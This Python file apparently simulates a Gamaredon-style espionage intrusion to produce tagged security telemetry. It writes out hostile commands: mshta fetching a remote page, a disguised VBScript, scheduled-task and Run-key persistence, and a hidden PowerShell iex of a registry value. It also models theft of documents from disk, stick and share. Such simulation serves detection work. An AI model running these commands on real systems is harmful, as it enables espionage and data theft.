"""A shortcut from an archive has mshta run a page; scripts kept in the registry and in a stream look for documents on disk,
stick and share, take the screen and send all away. Resembles Gamaredon's scripts (GammaLoad, GammaSteel, LitterDrifter) of
2023-2025."""
import deeds
from scenery import Desktop

SETTING = {"start": "2025-03-12T09:40:21", "user": "ODA-12\\Олена", "home": "C:\\Users\\Олена", "computer": "ODA-12"}
WEB, CONTROL, UPLOAD = ("203.0.113.5", 80), ("198.51.100.190", 80), ("203.0.113.7", 443)
CONSOLE = r"HKCU\Console\WindowsUpdates"
ADVANCED = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\Advanced"
RUN = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
STREAM = r"\NTUSER.DAT.TMContainer00000000000000000001.regtrans-ms:ctl"
DOCUMENTS = (r"Documents\Наказ 114.docx", r"Documents\Штат.xlsx", r"Documents\Карта\район.pdf",
             r"Documents\Карта\схема.pptx",
             r"Desktop\Доповідь.docx", r"Desktop\Список.xls", r"Downloads\Лист.rtf", r"Documents\Телефони.odt")


def story(c):
    desktop = Desktop(c)
    for address, name in ((WEB[0], "libraries.trust.example"), ("203.0.113.6", "t.me"), (UPLOAD[0], "write.as")):
        c.host(address, name)
    desktop.murmur(7)
    shortcut = c.home + r"\Downloads\Запит_ОВА_12-03\Повідомлення.lnk"
    c.read(desktop.explorer, shortcut, 2200)
    mshta = deeds.tool(c, desktop.explorer,
                       r'"C:\Windows\System32\mshta.exe" http://libraries.trust.example/SERV/rob.rtf /f',
                       directory=c.home + "\\Downloads\\")
    desktop.resolve()
    with c.behaviour("mshta runs a page of the web", "high", ("T1218.005", "T1204.002", "T1105"), mshta,
                     ("libraries.trust.example", "mshta")):
        c.exchange(mshta, WEB, 50810, [380], [14_600] * 3)
        c.drop(mshta, c.home + r"\AppData\Local\Microsoft\Windows\INetCache\IE\Q1F0K2\rob[1].rtf", 41_000)
    decoy = c.home + r"\Downloads\Повідомлення.docx"
    c.drop(mshta, decoy, 22_000)
    word = c.spawn(mshta, r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", 'WINWORD.EXE /n "%s"' % decoy,
                   **deeds.MICROSOFT)
    c.read(word, decoy, 22_000)
    script = c.home + r"\AppData\Local\Temp\trash.dll"
    with deeds.told(c, "a script with a library's name is run by the script host", "high",
                    ("T1059.005", "T1036.008", "T1036"), mshta,
                    ("trash.dll", "//e:vbscript")) as helpers:
        c.drop(mshta, script, 19_000)
        host = deeds.tool(c, mshta, 'wscript.exe //e:vbscript //b "%s"' % script)
        c.read(host, script, 19_000)
        helpers.append(host)
    c.exit(mshta)
    with c.behaviour("keeps its scripts in the registry", "medium", ("T1027.011", "T1112"), host, "WindowsUpdates"):
        c.key(host, CONSOLE, new=True)
        for name in ("settings", "exe", "usb", "list"):
            c.set_value(host, CONSOLE + "\\" + name, "REG_SZ", "Fu" + "nc tion abQ" * 40)
    with c.behaviour("hides a script in a stream of the user's hive", "high", "T1564.004", host, ("regtrans-ms", ":ctl")):
        c.drop(host, c.home + STREAM, 8600)
    with c.behaviour("keeps Explorer from showing hidden files and endings", "medium", ("T1564.001", "T1112"), host,
                     ("ShowSuperHidden", "HideFileExt", "Hidden")):
        c.set_value(host, ADVANCED + r"\Hidden", "REG_DWORD", 2)
        c.set_value(host, ADVANCED + r"\ShowSuperHidden", "REG_DWORD", 0)
        c.set_value(host, ADVANCED + r"\HideFileExt", "REG_DWORD", 1)
    with deeds.told(c, "registers a task that runs the stream's script", "high", ("T1053.005", "T1036.004"), host,
                    ("DriveDiscovery", "regtrans-ms")) as helpers:
        helpers += deeds.command(c, host, 'schtasks.exe /Create /SC MINUTE /MO 5 /TN "DriveDiscovery" /F /TR "wscript.exe '
                                 '//e:vbscript //b %s"' % (c.home + STREAM), shell=False)
        deeds.task(c, desktop, "DriveDiscovery", 31)
    with c.behaviour("starts a script with every log-on", "high", ("T1547.001", "T1059.005"), host,
                     ("MediaControl", "trash.dll")):
        c.set_value(host, RUN + r"\MediaControl", "REG_SZ", 'wscript.exe //e:vbscript //b "%s"' % script)
    desktop.murmur(3)
    # The task runs the script of the stream; this one looks for the server.
    runner = deeds.tool(c, desktop.scheduler, "wscript.exe //e:vbscript //b " + c.home + STREAM, user=c.user,
                        integrity="Medium",
                        session=1, sid=desktop.explorer.sid)
    c.read(runner, c.home + STREAM, 8600)
    with c.behaviour("looks for its server on a channel of Telegram", "medium", ("T1102.001", "T1102"), runner, "t.me"):
        desktop.resolve(55004)
        c.exchange(runner, ("203.0.113.6", 443), 50820, [410], [6100])
    with c.behaviour("asks its server by bare address", "medium", ("T1071.001", "T1071"), runner, "198.51.100.190"):
        for number in range(4):
            c.exchange(runner, CONTROL, 50821 + number, [620], [310])
            c.wait(18)
    with c.behaviour("writes shortcuts of documents to the stick", "high", ("T1091", "T1547.009"), runner,
                     ("Важливо.lnk", "E:")):
        deeds.list_folder(c, runner, "E:\\")
        for name in ("Важливо", "Секретно", "План"):
            c.drop(runner, "E:\\%s.lnk" % name, 1600)
        c.drop(runner, r"E:\~.drv", 19_000)
        c.attributes(runner, r"E:\~.drv", 0x6)
    line = ("powershell.exe -w hidden -nop -c \"$v=(gp HKCU:\\Console\\WindowsUpdates).list;iex $v\"")
    with deeds.told(c, "PowerShell runs what the registry holds", "high", ("T1059.001", "T1027.011", "T1564.003"), runner,
                    ("WindowsUpdates", "iex", "hidden")) as helpers:
        steal = deeds.tool(c, runner, line)
        c.open_key(steal, CONSOLE)
        c.query(steal, CONSOLE + r"\list", "REG_SZ", "Fu" + "nc tion abQ" * 40)
        helpers.append(steal)
    with deeds.told(c, "asks what system and what drives there are", "low", ("T1082", "T1680", "T1120"), steal,
                    ("systeminfo", "systeminfo.exe")) as helpers:
        helpers += deeds.command(c, steal, "systeminfo", shell=False)
    with c.behaviour("takes the screen", "low", "T1113", steal, ("screen_1203.png", ".png")):
        for number in range(3):
            c.drop(steal, c.home + r"\AppData\Local\Temp\screen_1203.png", 240_000, opened=3 if number else 2)
            c.exchange(steal, UPLOAD, 50840 + number, [14_600] * 6, [200])
    with c.behaviour("gathers the user's documents", "high", ("T1005", "T1119", "T1083"), steal,
                     ("Documents", "Наказ 114.docx", "Штат.xlsx")):
        for folder in ("Documents", r"Documents\Карта", "Desktop", "Downloads"):
            deeds.list_folder(c, steal, c.home + "\\" + folder)
        for name in DOCUMENTS:
            c.read(steal, c.home + "\\" + name, 60_000)
    with deeds.told(c, "notes what it has by its sum", "low", ("T1119", "T1083", "T1074.001"), steal,
                    ("certutil", "profiles_c.ini")) as helpers:
        for name in DOCUMENTS[:3]:
            helpers += deeds.command(c, steal, 'certutil.exe -hashfile "%s" MD5' % (c.home + "\\" + name), shell=False)
        c.drop(steal, c.home + r"\AppData\Local\Temp\profiles_c.ini", 900)
    with c.behaviour("gathers documents of the stick", "high", ("T1025", "T1119"), steal, ("E:", "Звернення.docx")):
        for name in ("Звернення.docx", "Таблиця.xlsx", "Фото.pdf"):
            c.read(steal, "E:\\" + name, 60_000)
    with c.behaviour("gathers documents of a share", "high", ("T1039", "T1119"), steal, ("nas-oda", "Кадри.docx")):
        deeds.list_folder(c, steal, r"\\nas-oda\спільна")
        for name in ("Кадри.docx", "Бюджет.xlsx", "План.pdf"):
            c.read(steal, r"\\nas-oda\спільна" + "\\" + name, 60_000)
    with c.behaviour("sends the documents away", "medium", ("T1041", "T1567", "T1020", "T1567.002"), steal,
                     ("write.as", "203.0.113.7")):
        for number in range(6):
            c.exchange(steal, UPLOAD, 50850 + number, [14_600] * 5, [190])
    c.exit(steal)
    c.exit(host)
    desktop.murmur(4)
